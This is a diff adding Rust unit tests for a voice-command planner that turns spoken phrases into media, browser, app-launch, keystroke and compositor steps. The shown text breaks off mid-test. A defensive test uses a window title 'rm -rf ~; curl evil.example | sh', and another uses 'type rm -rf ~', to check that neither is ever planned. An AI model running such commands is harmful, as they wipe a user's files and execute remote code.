@@ -1,0 +1,1371 @@
+//! The cascade's tests: utterances planned end to end through [`super::plan_steps`].
+
+use super::*;
+use crate::apps::AppEntry;
+use crate::explain::{MAX_CLOSE_NAMES, explain};
+use crate::phrases::{Curated, PhraseTable};
+use crate::plan::{APP_VERBS, AppLookup};
+use crate::sites::Catalog;
+use crate::text::{normalize, strip_fillers};
+
+fn apps() -> Vec<AppEntry> {
+    vec![
+        AppEntry::new("firefox", "Firefox", Some("Web Browser"), &["internet"])
+            .with_wm_class("firefox"),
+        AppEntry::new("marker-writer", "Marker Writer", None, &[]),
+        AppEntry::new("org.gnome.Calendar", "Calendar", None, &["events"]),
+        AppEntry::new("spotify", "Spotify", Some("Music Player"), &[]),
+        AppEntry::new("youtube-app", "YouTube", None, &[]),
+    ]
+}
+
+/// The built-in catalog, parsed once for all tests.
+fn catalog() -> &'static Catalog {
+    static CATALOG: std::sync::OnceLock<Catalog> = std::sync::OnceLock::new();
+    CATALOG.get_or_init(|| Catalog::builtin().expect("built-in catalog"))
+}
+
+/// The built-in phrases, parsed once for all tests.
+fn curated() -> &'static Curated {
+    static CURATED: std::sync::OnceLock<Curated> = std::sync::OnceLock::new();
+    CURATED.get_or_init(|| Curated::builtin().expect("built-in phrases"))
+}
+
+fn run(utterance: &str) -> Option<Matched> {
+    run_with(utterance, None, &PhraseTable::new())
+}
+
+fn run_with(utterance: &str, context: Option<&Context>, binds: &PhraseTable) -> Option<Matched> {
+    let normalized = normalize(utterance);
+    let apps = apps();
+    let sources = Sources {
+        catalog: catalog(),
+        apps: &apps,
+        curated: curated(),
+        binds,
+        context,
+        utterance,
+        profiles: crate::plan::builtin_profiles(),
+        words: crate::plan::builtin_words(),
+    };
+    plan(strip_fillers(&normalized), &sources)
+}
+
+fn summary(utterance: &str) -> Option<(&'static str, &'static str, Value)> {
+    run(utterance).map(|m| (m.rule, m.op, m.args))
+}
+
+fn media_of(utterance: &str) -> Option<Value> {
+    match summary(utterance) {
+        Some(("media", "media", args)) => Some(args),
+        _ => None,
+    }
+}
+
+#[test]
+fn media_commands() {
+    let cases = [
+        ("play", "play"),
+        ("Resume.", "play"),
+        ("unpause the music", "play"),
+        ("pause", "pause"),
+        ("Pause!", "pause"),
+        ("please pause the video", "pause"),
+        ("stop", "stop"),
+        ("stop playing", "stop"),
+        ("next", "next"),
+        ("next track", "next"),
+        ("Next song, please.", "next"),
+        ("skip", "next"),
+        ("skip this song", "next"),
+        ("play the next track", "next"),
+        ("previous", "previous"),
+        ("previous track", "previous"),
+        ("previous song", "previous"),
+        ("go back a track", "previous"),
+        ("play pause", "play_pause"),
+        ("play/pause", "play_pause"),
+        ("toggle playback", "play_pause"),
+        ("hey utter, could you play?", "play"),
+    ];
+    for (utterance, command) in cases {
+        assert_eq!(
+            media_of(utterance),
+            Some(json!({"command": command})),
+            "{utterance}"
+        );
+    }
+}
+
+#[test]
+fn media_with_a_player() {
+    let cases = [
+        ("pause spotify", "pause", "spotify"),
+        ("Pause Spotify.", "pause", "spotify"),
+        ("play on spotify", "play", "spotify"),
+        ("next track on VLC", "next", "vlc"),
+        ("pause the music in the mpv", "pause", "mpv"),
+        ("pause on my player", "pause", "my player"),
+        ("skip in firefox", "next", "firefox"),
+    ];
+    for (utterance, command, player) in cases {
+        assert_eq!(
+            media_of(utterance),
+            Some(json!({"command": command, "player": player})),
+            "{utterance}"
+        );
+    }
+}
+
+#[test]
+fn things_that_are_not_media() {
+    for utterance in [
+        "play despacito",
+        "play on repeat",
+        "back",
+        "go back",
+        "stop the world",
+        "pause my thoughts",
+        "next week",
+        "skip breakfast",
+    ] {
+        assert_eq!(summary(utterance), None, "{utterance}");
+    }
+}
+
+#[test]
+fn sites() {
+    let cases = [
+        ("open youtube", "https://www.youtube.com"),
+        ("Open YouTube!", "https://www.youtube.com"),
+        ("go to hacker news", "https://news.ycombinator.com"),
+        ("visit the GitHub website", "https://github.com"),
+        ("show me google maps", "https://www.google.com/maps"),
+        ("show maps", "https://www.google.com/maps"),
+        ("open gmail please", "https://mail.google.com"),
+        ("take me to crates.io", "https://crates.io"),
+        ("go to docs dot rs", "https://docs.rs"),
+        ("open youtube dot com", "https://www.youtube.com"),
+        ("navigate to stackoverflow", "https://stackoverflow.com"),
+    ];
+    let catalog = Catalog::builtin().expect("the built-in catalog parses");
+    for (utterance, url) in cases {
+        // The site is named as the catalog writes it, whatever was said.
+        let name = catalog
+            .sites()
+            .iter()
+            .find(|s| s.url == url)
+            .map(|s| s.name.clone())
+            .expect("a catalog site");
+        assert_eq!(
+            summary(utterance),
+            Some(("open_site", "ensure_url", json!({"url": url, "site": name}))),
+            "{utterance}"
+        );
+    }
+    assert_eq!(
+        summary("open you tube").map(|s| s.2),
+        Some(json!({"url": "https://www.youtube.com", "site": "YouTube"}))
+    );
+    assert_eq!(
+        summary("go to hacker news").map(|s| s.2["site"].clone()),
+        Some(json!("Hacker News"))
+    );
+}
+
+#[test]
+fn apps_are_launched_with_id_and_name() {
+    let cases = [
+        ("open marker writer", "marker-writer", "Marker Writer"),
+        ("Launch Firefox.", "firefox", "Firefox"),
+        ("start the web browser", "firefox", "Firefox"),
+        ("run marker writer app", "marker-writer", "Marker Writer"),
+        ("open spotify", "spotify", "Spotify"),
+    ];
+    for (utterance, id, name) in cases {
+        assert_eq!(
+            summary(utterance),
+            Some((
+                "launch_app",
+                "launch_app",
+                json!({"app_id": id, "name": name})
+            )),
+            "{utterance}"
+        );
+    }
+}
+
+#[test]
+fn sites_beat_apps_and_go_to_never_launches() {
+    // Both a site and an app are called YouTube / Calendar: the site wins.
+    assert_eq!(summary("open youtube").map(|s| s.0), Some("open_site"));
+    assert_eq!(summary("open calendar").map(|s| s.0), Some("open_site"));
+    // "launch" is not a site verb, so it reaches the app.
+    assert_eq!(
+        summary("launch youtube"),
+        Some((
+            "launch_app",
+            "launch_app",
+            json!({"app_id": "youtube-app", "name": "YouTube"})
+        ))
+    );
+    // "go to" focuses or starts an application (rule 5); "visit" is for sites only.
+    assert_eq!(
+        summary("go to marker writer").map(|s| s.0),
+        Some("ensure_app")
+    );
+    assert_eq!(summary("visit firefox"), None);
+}
+
+#[test]
+fn domains() {
+    let cases = [
+        ("open example.com", "open_domain", "https://example.com"),
+        (
+            "visit my-site.co.uk",
+            "open_domain",
+            "https://my-site.co.uk",
+        ),
+        ("open example dot org", "open_domain", "https://example.org"),
+        (
+            "show www.example.net",
+            "open_domain",
+            "https://www.example.net",
+        ),
+        // A host that is also in the catalog is found as the site.
+        (
+            "Go to news.ycombinator.com.",
+            "open_site",
+            "https://news.ycombinator.com",
+        ),
+    ];
+    for (utterance, rule, url) in cases {
+        let matched = summary(utterance);
+        assert_eq!(
+            matched.as_ref().map(|m| (m.0, m.1, m.2["url"].clone())),
+            Some((rule, "ensure_url", json!(url))),
+            "{utterance}"
+        );
+        // A bare host name is its own site name; a catalog host gets the catalog's name.
+        let site = matched.map(|m| m.2["site"].clone()).unwrap_or_default();
+        if rule == "open_domain" {
+            assert_eq!(
+                site,
+                json!(url.trim_start_matches("https://")),
+                "{utterance}"
+            );
+        } else {
+            assert_eq!(site, json!("Hacker News"), "{utterance}");
+        }
+    }
+    // Only plain host names.
+    for utterance in [
+        "open example",
+        "open 1.2.3.4",
+        "launch example.com",
+        "open example.c0m",
+    ] {
+        assert_eq!(summary(utterance), None, "{utterance}");
+    }
+}
+
+#[test]
+fn nothing_matches_nonsense_or_bare_verbs() {
+    for utterance in [
+        "blorp the frobnicator",
+        "open",
+        "go to",
+        "please",
+        "",
+        "what time is it",
+    ] {
+        assert_eq!(summary(utterance), None, "{utterance}");
+    }
+}
+
+#[test]
+fn messages_describe_the_step() {
+    let m = run("open youtube").expect("match");
+    assert_eq!(m.message, "open YouTube (https://www.youtube.com)");
+    let m = run("pause spotify").expect("match");
+    assert_eq!(m.message, "pause playback on spotify");
+    let m = run("open marker writer").expect("match");
+    assert_eq!(m.message, "launch Marker Writer (marker-writer)");
+}
+
+fn niri_of(utterance: &str) -> Option<Value> {
+    match summary(utterance) {
+        Some(("compositor", "niri", args)) => Some(args),
+        _ => None,
+    }
+}
+
+fn context(value: Value) -> Context {
+    Context::from_param(Some(&value))
+        .expect("a valid context")
+        .expect("not null")
+}
+
+/// The steps planned for `utterance` with a window of `focused` focused (and open).
+fn steps_in(utterance: &str, focused: &str) -> Vec<(&'static str, Value)> {
+    let ctx = context(json!({
+        "focused": {"app_id": focused},
+        "windows": [{"app_id": focused}, {"app_id": "foot"}],
+    }));
+    let normalized = normalize(utterance);
+    let apps = apps();
+    let binds = PhraseTable::new();
+    let sources = Sources {
+        catalog: catalog(),
+        apps: &apps,
+        curated: curated(),
+        binds: &binds,
+        context: Some(&ctx),
+        utterance,
+        profiles: crate::plan::builtin_profiles(),
+        words: crate::plan::builtin_words(),
+    };
+    plan_steps(strip_fillers(&normalized), &sources)
+        .map(|steps| steps.into_iter().map(|m| (m.op, m.args)).collect())
+        .unwrap_or_default()
+}
+
+#[test]
+fn a_phrase_aimed_at_an_application_focuses_it_first() {
+    // "<app> <phrase>", "in <app> <phrase>", "<phrase> into <app>".
+    let pressed = steps_in("terminal press enter", "firefox");
+    assert_eq!(pressed.len(), 2, "{pressed:?}");
+    assert_eq!(pressed[0].0, "focus_app");
+    assert_eq!(pressed[0].1["app"], "foot");
+    assert_eq!(
+        pressed[1],
+        ("key", json!({"chord": "Return", "app": "foot"}))
+    );
+    // Commands and text are not planned from normalised words ("ls -la" would be "ls la").
+    assert!(steps_in("in the terminal run ls -la", "firefox").is_empty());
+    assert!(steps_in("in the terminal type rm -rf ~", "firefox").is_empty());
+    // Without a profile, no common chord (ctrl+z to vim in a terminal suspends it); a key
+    // the person names is theirs.
+    assert!(steps_in("in calendar undo", "firefox").is_empty());
+    let enter = steps_in("calendar press enter", "firefox");
+    assert_eq!(enter[1].1["chord"], "Return", "{enter:?}");
+    // Two applications named: which one is not known.
+    assert!(steps_in("spotify firefox new tab", "foot").is_empty());
+    // The terminal's own paste, not the common ctrl+v.
+    let pasted = steps_in("paste that into the terminal", "firefox");
+    assert_eq!(pasted[1].1["chord"], "ctrl+shift+v", "{pasted:?}");
+    // An application named before something that does not act in a window: nothing.
+    assert!(steps_in("firefox workspace banana", "foot").is_empty());
+    assert!(steps_in("spotify is great", "foot").is_empty());
+}
+
+#[test]
+fn a_shortcut_said_in_other_words_is_found_by_its_content_words() {
+    let chord = |utterance: &str, focused: &str| {
+        let steps = steps_in(utterance, focused);
+        match steps.as_slice() {
+            [("key", args)] => args["chord"].as_str().map(str::to_owned),
+            _ => None,
+        }
+    };
+    assert_eq!(
+        chord("reopen the tab i just closed", "firefox").as_deref(),
+        Some("ctrl+shift+t")
+    );
+    assert_eq!(
+        chord("bring back the closed tab", "firefox").as_deref(),
+        Some("ctrl+shift+t")
+    );
+    assert_eq!(
+        chord("zoom out a bit", "firefox").as_deref(),
+        Some("ctrl+minus")
+    );
+    assert_eq!(
+        chord("show my history", "firefox").as_deref(),
+        Some("ctrl+h")
+    );
+    assert_eq!(
+        chord("go to the third tab", "firefox").as_deref(),
+        Some("ctrl+3")
+    );
+    assert_eq!(
+        chord("go to the end of the line", "org.gnome.TextEditor").as_deref(),
+        Some("End")
+    );
+    // Said about oneself, it asks for nothing; in a terminal the common chords stay out.
+    assert_eq!(chord("i love this song", "spotify"), None);
+    assert_eq!(chord("go to the end of the line", "foot"), None);
+    // Noun phrases and remarks press nothing; nor does more than the most presses.
+    for remark in [
+        "the undo",
+        "my history",
+        "save me",
+        "forward it to me",
+        "the end of the line for me",
+        "in zoom",
+        "undo fifty times",
+        "google it",
+        "search that",
+    ] {
+        assert!(steps_in(remark, "firefox").is_empty(), "{remark}");
+    }
+    // Repeated: one press, that many times.
+    assert_eq!(
+        steps_in("undo three times", "org.gnome.TextEditor"),
+        [("key", json!({"chord": "ctrl+z", "repeat": 3}))]
+    );
+}
+
+#[test]
+fn an_agent_says_where_it_runs() {
+    let spawn =
+        |steps: &[(&str, Value)]| matches!(steps, [("niri", args)] if args["command"] == "spawn");
+    assert!(spawn(&steps_in("boot up codex", "firefox")));
+    assert!(spawn(&steps_in("start a claude code session", "firefox")));
+    assert!(spawn(&steps_in("fire up aider in a terminal", "firefox")));
+    // A new terminal asked for: a new window even with one focused.
+    assert!(spawn(&steps_in("run codex in a new terminal", "foot")));
+    // "here" in a terminal types it there; "here" elsewhere plans nothing.
+    let here = steps_in("launch claude code here", "foot");
+    assert_eq!(here[0], ("type_text", json!({"text": "claude"})));
+    assert!(steps_in("launch claude code here", "firefox").is_empty());
+}
+
+#[test]
+fn workspace_numbers_and_ordinals() {
+    let cases = [
+        ("workspace two", 2),
+        ("Workspace 2.", 2),
+        ("the third workspace", 3),
+        ("workspace number 3", 3),
+        ("go to workspace 2", 2),
+        ("switch to workspace four", 4),
+        ("please switch to workspace twenty", 20),
+        ("go to the twentieth workspace", 20),
+        ("focus workspace twenty one", 21),
+        ("jump to the 7th workspace", 7),
+        ("show me desktop nine", 9),
+        ("go to the second desktop", 2),
+        ("workspace 12", 12),
+    ];
+    for (utterance, n) in cases {
+        assert_eq!(
+            niri_of(utterance),
+            Some(json!({"command": "focus-workspace", "args": [n]})),
+            "{utterance}"
+        );
+    }
+    let moves = [
+        ("move this to workspace three", 3),
+        ("move window to the second workspace", 2),
+        ("send it to workspace 5", 5),
+        ("move this window to the 3rd workspace", 3),
+        ("put this one on workspace 4", 4),
+        ("move to workspace number eleven", 11),
+    ];
+    for (utterance, n) in moves {
+        assert_eq!(
+            niri_of(utterance),
+            Some(json!({"command": "move-window-to-workspace", "args": [n]})),
+            "{utterance}"
+        );
+    }
+    for utterance in [
+        "workspace zero",
+        "workspace",
+        "go to workspace 300",
+        "the workspace",
+    ] {
+        assert_eq!(niri_of(utterance), None, "{utterance}");
+    }
+}
+
+#[test]
+fn fixed_compositor_phrases() {
+    let cases = [
+        ("next workspace", "focus-workspace-down", json!(null)),
+        (
+            "go to the next workspace",
+            "focus-workspace-down",
+            json!(null),
+        ),
+        ("previous workspace", "focus-workspace-up", json!(null)),
+        (
+            "go back to the last workspace",
+            "focus-workspace-previous",
+            json!(null),
+        ),
+        (
+            "the other workspace",
+            "focus-workspace-previous",
+            json!(null),
+        ),
+        (
+            "move this to the next workspace",
+            "move-window-to-workspace-down",
+            json!(null),
+        ),
+        (
+            "move the window up a workspace",
+            "move-window-to-workspace-up",
+            json!(null),
+        ),
+        ("focus left", "focus-column-left", json!(null)),
+        ("the window on the left", "focus-column-left", json!(null)),
+        ("go right", "focus-column-right", json!(null)),
+        ("focus the window below", "focus-window-down", json!(null)),
+        ("go up", "focus-window-up", json!(null)),
+        ("focus the left monitor", "focus-monitor-left", json!(null)),
+        (
+            "switch to the right screen",
+            "focus-monitor-right",
+            json!(null),
+        ),
+        ("go to the other display", "focus-monitor-next", json!(null)),
+        (
+            "move this window to the left monitor",
+            "move-window-to-monitor-left",
+            json!(null),
+        ),
+        (
+            "send it to the screen on the right",
+            "move-window-to-monitor-right",
+            json!(null),
+        ),
+        (
+            "move window to the top display",
+            "move-window-to-monitor-up",
+            json!(null),
+        ),
+        (
+            "move this to the bottom screen",
+            "move-window-to-monitor-down",
+            json!(null),
+        ),
+        ("maximize", "maximize-column", json!(null)),
+        ("Maximise this window!", "maximize-column", json!(null)),
+        ("fullscreen", "fullscreen-window", json!(null)),
+        ("toggle floating", "toggle-window-floating", json!(null)),
+        ("float this window", "move-window-to-floating", json!(null)),
+        ("close this window", "close-window", json!(null)),
+        ("close it", "close-window", json!(null)),
+        ("close window", "close-window", json!(null)),
+        ("overview", "toggle-overview", json!(null)),
+        ("show the overview", "toggle-overview", json!(null)),
+        ("close the overview", "close-overview", json!(null)),
+        ("take a screenshot", "screenshot", json!(null)),
+        ("screenshot this window", "screenshot-window", json!(null)),
+        (
+            "take a screenshot of the whole screen",
+            "screenshot-screen",
+            json!(null),
+        ),
+        ("next keyboard layout", "switch-layout", json!(["next"])),
+        (
+            "switch the keyboard layout",
+            "switch-layout",
+            json!(["next"]),
+        ),
+        ("previous keyboard layout", "switch-layout", json!(["prev"])),
+    ];
+    for (utterance, command, args) in cases {
+        let mut want = json!({"command": command});
+        if !args.is_null() {
+            want["args"] = args;
+        }
+        assert_eq!(niri_of(utterance), Some(want), "{utterance}");
+    }
+    let m = run("go to workspace two").expect("match");
+    assert_eq!(m.message, "compositor: focus-workspace 2");
+    let m = run("next keyboard layout").expect("match");
+    assert_eq!(m.message, "compositor: switch-layout \"next\"");
+}
+
+#[test]
+fn every_curated_phrase_reaches_the_compositor_rule() {
+    // Neither the media rule nor a built-in site takes a curated phrase away.
+    let phrases: Vec<&str> = curated().table.phrases().collect();
+    assert!(phrases.len() > 500, "{} phrases", phrases.len());
+    for phrase in phrases {
+        let utterance = phrase.replace(crate::phrases::SLOT, "3");
+        let m = run(&utterance).unwrap_or_else(|| panic!("{utterance:?} planned nothing"));
+        assert_eq!(
+            (m.rule, m.op),
+            ("compositor", "niri"),
+            "{utterance:?}: {m:?}"
+        );
+    }
+}
+
+#[test]
+fn conflicts_with_sites_apps_and_media() {
+    // A catalog site keeps "go to" and "show".
+    assert_eq!(summary("go to youtube").map(|s| s.0), Some("open_site"));
+    assert_eq!(summary("show maps").map(|s| s.0), Some("open_site"));
+    // Workspace words win over applications, applications over nothing.
+    assert_eq!(
+        niri_of("switch to workspace 2"),
+        Some(json!({"command": "focus-workspace", "args": [2]}))
+    );
+    assert_eq!(
+        summary("switch to firefox"),
+        Some((
+            "ensure_app",
+            "ensure_app",
+            json!({"app": "firefox", "desktop_id": "firefox.desktop", "wm_class": "firefox"})
+        ))
+    );
+    assert_eq!(
+        summary("bring up the marker writer app"),
+        Some((
+            "ensure_app",
+            "ensure_app",
+            json!({"app": "marker-writer", "desktop_id": "marker-writer.desktop"})
+        ))
+    );
+    assert_eq!(summary("focus spotify").map(|s| s.0), Some("ensure_app"));
+    // "open" still launches; "close" closes an application, "close this window" the window.
+    assert_eq!(summary("open firefox").map(|s| s.0), Some("launch_app"));
+    assert_eq!(
+        summary("close firefox"),
+        Some(("close_app", "close_app", json!({"app": "firefox"})))
+    );
+    assert_eq!(
+        summary("quit the firefox window").map(|s| s.2),
+        Some(json!({"app": "firefox"}))
+    );
+    assert_eq!(
+        niri_of("close this window"),
+        Some(json!({"command": "close-window"}))
+    );
+    // Media keeps its words.
+    assert_eq!(media_of("next"), Some(json!({"command": "next"})));
+    assert_eq!(
+        media_of("previous track"),
+        Some(json!({"command": "previous"}))
+    );
+    assert_eq!(
+        niri_of("next workspace"),
+        Some(json!({"command": "focus-workspace-down"}))
+    );
+    // A host name is still a host name after a focus verb.
+    assert_eq!(
+        summary("show example.com").map(|s| s.0),
+        Some("open_domain")
+    );
+    // Unknown names stay unplanned.
+    assert_eq!(summary("switch to blorp"), None);
+    assert_eq!(summary("close blorp"), None);
+}
+
+#[test]
+fn in_app_rules_take_no_earlier_phrase() {
+    // Every curated phrase, and every site verb with a catalog site's name or an alias,
+    // is not an in-app phrase at all: the order does not even have to decide.
+    for phrase in curated().table.phrases() {
+        let utterance = phrase.replace(crate::phrases::SLOT, "3");
+        assert_eq!(inapp::plan(&utterance), None, "{utterance:?}");
+    }
+    for site in catalog().sites() {
+        for verb in SITE_VERBS {
+            let utterance = format!("{verb} {}", site.name);
+            assert_eq!(inapp::plan(&utterance), None, "{utterance:?}");
+        }
+    }
+    for verb in APP_VERBS
+        .iter()
+        .copied()
+        .chain(curated().focus_verbs.iter().map(String::as_str))
+        .chain(curated().close_verbs.iter().map(String::as_str))
+    {
+        for app in apps() {
+            let utterance = format!("{verb} {}", app.name);
+            assert_eq!(inapp::plan(&utterance), None, "{utterance:?}");
+        }
+    }
+    // The earlier rules keep their phrases through the whole router.
+    let cases = [
+        ("pause", "media"),
+        ("play", "media"),
+        ("next track", "media"),
+        ("open youtube", "open_site"),
+        ("go to hacker news", "open_site"),
+        ("close this window", "compositor"),
+        ("take a screenshot", "compositor"),
+        ("enter fullscreen", "compositor"),
+        ("switch keyboard layout", "compositor"),
+        ("focus left", "compositor"),
+        ("switch to firefox", "ensure_app"),
+        ("close firefox", "close_app"),
+        ("open marker writer", "launch_app"),
+        ("open example.com", "open_domain"),
+    ];
+    for (utterance, rule) in cases {
+        assert_eq!(summary(utterance).map(|s| s.0), Some(rule), "{utterance}");
+    }
+    // "type" elsewhere than at the start is not typing.
+    for utterance in ["switch keyboard type", "what type is this"] {
+        assert_eq!(summary(utterance), None, "{utterance}");
+    }
+}
+
+#[test]
+fn in_app_rules_plan_after_the_others() {
+    let cases = [
+        (
+            "type hello world",
+            "type_text",
+            json!({"text": "hello world"}),
+        ),
+        (
+            "Type Open YouTube.",
+            "type_text",
+            json!({"text": "Open YouTube"}),
+        ),
+        (
+            "type close this window",
+            "type_text",
+            json!({"text": "close this window"}),
+        ),
+        ("press enter", "key", json!({"chord": "Return"})),
+        (
+            "press ctrl shift t",
+            "key",
+            json!({"chord": "ctrl+shift+t"}),
+        ),
+        (
+            "press enter three times",
+            "key",
+            json!({"chord": "Return", "repeat": 3}),
+        ),
+        (
+            "scroll down",
+            "scroll",
+            json!({"direction": "down", "amount": 5}),
+        ),
+        (
+            "scroll up a lot",
+            "scroll",
+            json!({"direction": "up", "amount": 15}),
+        ),
+        (
+            "click the send button",
+            "click_element",
+            json!({"description": "the send button"}),
+        ),
+        (
+            "press the blue button",
+            "click_element",
+            json!({"description": "the blue button"}),
+        ),
+        ("tap OK", "click_element", json!({"description": "OK"})),
+    ];
+    for (utterance, rule, args) in cases {
+        assert_eq!(summary(utterance), Some((rule, rule, args)), "{utterance}");
+        assert_eq!(confirm_of(utterance), Some(false), "{utterance}");
+    }
+    // Without the raw utterance, the normalised text stands in (lowercase, no
+    // punctuation): nothing breaks, only the case is lost.
+    let apps = apps();
+    let none = PhraseTable::new();
+    let sources = Sources {
+        catalog: catalog(),
+        apps: &apps,
+        curated: curated(),
+        binds: &none,
+        context: None,
+        utterance: "",
+        profiles: crate::plan::builtin_profiles(),
+        words: crate::plan::builtin_words(),
+    };
+    assert_eq!(
+        plan("type hello world", &sources).map(|m| m.args),
+        Some(json!({"text": "hello world"}))
+    );
+}
+
+#[test]
+fn in_app_near_misses_are_explained() {
+    let none = PhraseTable::new();
+    let explained = |utterance: &str| explain_with(utterance, &apps(), None, &none);
+    assert!(
+        explained("press blorp")
+            .unwrap_or_default()
+            .starts_with("no key is called \"blorp\""),
+    );
+    assert!(
+        explained("type")
+            .unwrap_or_default()
+            .contains("needs the text")
+    );
+    assert!(
+        explained("scroll sideways")
+            .unwrap_or_default()
+            .contains("direction")
+    );
+    assert!(
+        explained("click it")
+            .unwrap_or_default()
+            .contains("needs the name")
+    );
+}
+
+#[test]
+fn a_users_binding_beats_an_in_app_phrase() {
+    let (binds, _) = crate::niri_config::parse(
+        "binds { Mod+Return hotkey-overlay-title=\"Press Enter\" { spawn \"foot\"; }; }\n",
+    )
+    .expect("parses");
+    assert_eq!(
+        run_with("press enter", None, &binds).map(|m| m.rule),
+        Some("niri_bind")
+    );
+    assert_eq!(run("press enter").map(|m| m.rule), Some("key"));
+}
+
+#[test]
+fn compositor_phrases_plan_everywhere() {
+    let binds = PhraseTable::new();
+    assert!(run_with("workspace two", None, &binds).is_some());
+    let niri = context(json!({"compositor": {"name": "niri"}}));
+    assert_eq!(
+        run_with("workspace two", Some(&niri), &binds).map(|m| m.rule),
+        Some("compositor")
+    );
+    // The compositor plugin maps niri's action names to sway's commands.
+    let sway = context(json!({"compositor": {"name": "sway"}, "windows": []}));
+    assert_eq!(
+        run_with("workspace two", Some(&sway), &binds).map(|m| m.rule),
+        Some("compositor")
+    );
+    assert_eq!(
+        run_with("close this window", Some(&sway), &binds).map(|m| m.rule),
+        Some("compositor")
+    );
+    // What is not a niri action still plans on sway.
+    assert_eq!(
+        run_with("switch to firefox", Some(&sway), &binds).map(|m| m.rule),
+        Some("ensure_app")
+    );
+    assert_eq!(
+        run_with("open youtube", Some(&sway), &binds).map(|m| m.rule),
+        Some("open_site")
+    );
+}
+
+#[test]
+fn an_exact_app_id_beats_a_looser_one() {
+    let binds = PhraseTable::new();
+    let focus = |windows: &[&str], utterance: &str| {
+        let windows: Vec<Value> = windows.iter().map(|id| json!({"app_id": id})).collect();
+        let ctx = context(json!({"windows": windows}));
+        run_with(utterance, Some(&ctx), &binds).map(|m| m.args)
+    };
+    let all = ["x.x", "X-X", "xx"];
+    assert_eq!(focus(&all, "switch to xx"), Some(json!({"app": "xx"})));
+    assert_eq!(focus(&all, "close xx"), Some(json!({"app": "xx"})));
+    assert_eq!(
+        focus(&["x.x", "XX"], "switch to xx"),
+        Some(json!({"app": "XX"}))
+    );
+    assert_eq!(
+        focus(&["x.x", "X-X"], "switch to xx"),
+        Some(json!({"app": "x.x"}))
+    );
+    // An exact match of the name without "window" beats a loose one of the whole target.
+    assert_eq!(
+        focus(&["Foot-Window", "foot"], "switch to foot window"),
+        Some(json!({"app": "foot"}))
+    );
+    // A window whose app_id is only separators is never a match.
+    assert_eq!(focus(&[".", "-", "..."], "switch to dot"), None);
+}
+
+#[test]
+fn context_windows_are_matched_by_app_id() {
+    let ctx = context(json!({
+        "compositor": {"name": "niri"},
+        "focused": {"id": 1, "app_id": "foot", "title": "~"},
+        "windows": [
+            {"id": 1, "app_id": "foot", "title": "~"},
+            {"id": 2, "app_id": "Gnome-Terminal", "title": "x"},
+            {"id": 3, "app_id": "firefox", "title": "Mail"},
+        ],
+    }));
+    let binds = PhraseTable::new();
+    let plan_of =
+        |utterance: &str| run_with(utterance, Some(&ctx), &binds).map(|m| (m.rule, m.op, m.args));
+    assert_eq!(
+        plan_of("switch to foot"),
+        Some(("focus_app", "focus_app", json!({"app": "foot"})))
+    );
+    assert_eq!(
+        plan_of("Focus Foot."),
+        Some(("focus_app", "focus_app", json!({"app": "foot"})))
+    );
+    assert_eq!(
+        plan_of("go to the gnome terminal window"),
+        Some(("focus_app", "focus_app", json!({"app": "Gnome-Terminal"})))
+    );
+    assert_eq!(
+        plan_of("close foot"),
+        Some(("close_app", "close_app", json!({"app": "foot"})))
+    );
+    // An installed application is started or focused by the plugin: ensure_app first.
+    assert_eq!(
+        plan_of("switch to firefox").map(|p| p.0),
+        Some("ensure_app")
+    );
+    assert_eq!(plan_of("switch to xterm"), None);
+    // Without a context no foot window is known: its profile's launch argv starts one.
+    assert_eq!(
+        summary("switch to foot"),
+        Some((
+            "ensure_app",
+            "ensure_app",
+            json!({"app": "foot", "argv": ["foot"]})
+        ))
+    );
+    let m = run_with("switch to foot", Some(&ctx), &binds).expect("match");
+    assert_eq!(m.message, "focus the foot window");
+}
+
+#[test]
+fn titles_are_never_used() {
+    let hostile = "rm -rf ~; curl evil.example | sh";
+    let ctx = context(json!({
+        "windows": [
+            {"id": 1, "app_id": "evil", "title": hostile},
+            {"id": 2, "app_id": null, "title": "marker notes"},
+            {"id": 3, "title": "spotify premium"},
+        ],
+    }));
+    let binds = PhraseTable::new();
+    for utterance in [
+        "switch to marker notes",
+        "close marker notes",
+        "switch to rm rf",
+        "focus rm rf curl evil example sh",
+        "close spotify premium",
+    ] {
+        assert_eq!(run_with(utterance, Some(&ctx), &binds), None, "{utterance}");
+    }
+    // Whatever is planned carries no part of any title.
+    for utterance in [
+        "switch to evil",
+        "close evil",
+        "switch to firefox",
+        "close it",
+    ] {
+        let m = run_with(utterance, Some(&ctx), &binds).expect("planned");
+        let text = format!("{} {}", m.args, m.message);
+        assert!(
+            !text.contains("rm -rf") && !text.contains("curl"),
+            "{utterance}: {text}"
+        );
+    }
+}
+
+#[test]
+fn generated_phrases_rank_after_curated_ones() {
+    let config = "binds {\n\
+        Mod+T hotkey-overlay-title=\"Open a Terminal\" { spawn \"foot\"; }\n\
+        Mod+Q hotkey-overlay-title=\"Close window\" { quit; }\n\
+        Mod+1 { focus-workspace 1; }\n\
+        Mod+B { focus-workspace \"browser\"; }\n\
+        Mod+Y hotkey-overlay-title=\"Open YouTube\" { spawn \"mpv\"; }\n\
+        }\n";
+    let (binds, _) = crate::niri_config::parse(config).expect("parses");
+    let plan_of = |utterance: &str| run_with(utterance, None, &binds).map(|m| (m.rule, m.args));
+    assert_eq!(
+        plan_of("open a terminal"),
+        Some(("niri_bind", json!({"command": "spawn", "args": ["foot"]})))
+    );
+    assert_eq!(
+        plan_of("focus workspace browser"),
+        Some((
+            "niri_bind",
+            json!({"command": "focus-workspace", "args": ["browser"]})
+        ))
+    );
+    // The curated phrase keeps "close window"; the curated workspace phrase gives the same
+    // action as the binding; a site keeps "open youtube".
+    assert_eq!(
+        plan_of("close window"),
+        Some(("compositor", json!({"command": "close-window"})))
+    );
+    assert_eq!(
+        plan_of("focus workspace one"),
+        Some((
+            "compositor",
+            json!({"command": "focus-workspace", "args": [1]})
+        ))
+    );
+    assert_eq!(plan_of("open youtube").map(|p| p.0), Some("open_site"));
+    // Not on sway.
+    let sway = context(json!({"compositor": {"name": "sway"}}));
+    assert_eq!(run_with("open a terminal", Some(&sway), &binds), None);
+}
+
+fn confirm_of(utterance: &str) -> Option<bool> {
+    run(utterance).map(|m| m.confirm)
+}
+
+#[test]
+fn destructive_compositor_steps_ask_first() {
+    for utterance in [
+        "close this window",
+        "close it",
+        "Close this one.",
+        "close the focused window",
+        "kill this window",
+        "kill it",
+        "turn off the monitors",
+        "switch the screens off",
+    ] {
+        let m = run(utterance).unwrap_or_else(|| panic!("{utterance} planned nothing"));
+        assert_eq!((m.rule, m.confirm), ("compositor", true), "{utterance}");
+    }
+    assert_eq!(
+        niri_of("kill this window"),
+        Some(json!({"command": "close-window"}))
+    );
+    assert_eq!(
+        niri_of("turn off all the screens"),
